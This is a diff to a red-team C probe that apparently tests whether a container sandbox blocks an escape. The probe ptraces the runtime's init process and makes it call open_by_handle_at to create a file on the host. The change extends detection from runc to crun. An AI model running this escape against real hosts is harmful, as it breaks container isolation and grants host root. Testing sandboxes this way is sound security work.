@@ -1,5 +1,5 @@
 /* Red-team: from inside a guest, wait for the runtime's init that every exec sends into the guest
- * (runc:[2:INIT]), attach to it with ptrace and make it run open_by_handle_at on a host directory's
+ * (runc's runc:[2:INIT]; crun's own forked child, named crun until it execs), attach to it with ptrace and make it run open_by_handle_at on a host directory's
  * handle and create a file there: host root. Prints one verdict line:
  *   PWNED <pid>            the file was created on the host
  *   REFUSED <pid> <errno>  the runtime's init was seen and ptrace was refused
@@ -20,14 +20,14 @@
 #include <time.h>
 #include <unistd.h>
 
-static int is_runc_init(const char *pid) {
+static int is_runtime_init(const char *pid) {
     char path[300], comm[64] = {0};
     snprintf(path, sizeof path, "/proc/%s/comm", pid);
     int fd = open(path, O_RDONLY);
     if (fd < 0) return 0;
     ssize_t n = read(fd, comm, sizeof comm - 1);
     close(fd);
-    return n > 0 && strncmp(comm, "runc:[2:INIT]", 13) == 0;
+    return n > 0 && (strncmp(comm, "runc:[2:INIT]", 13) == 0 || strcmp(comm, "crun\n") == 0);
 }
 
 static void poke(pid_t pid, unsigned long addr, const void *data, size_t len) {
@@ -69,7 +69,7 @@ int main(int argc, char **argv) {
         DIR *d = opendir("/proc");
         struct dirent *e;
         while (d && (e = readdir(d))) {
-            if (e->d_name[0] < '0' || e->d_name[0] > '9' || !is_runc_init(e->d_name)) continue;
+            if (e->d_name[0] < '0' || e->d_name[0] > '9' || !is_runtime_init(e->d_name)) continue;
             pid_t pid = atoi(e->d_name);
             if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) {
                 if (errno == ESRCH) continue;
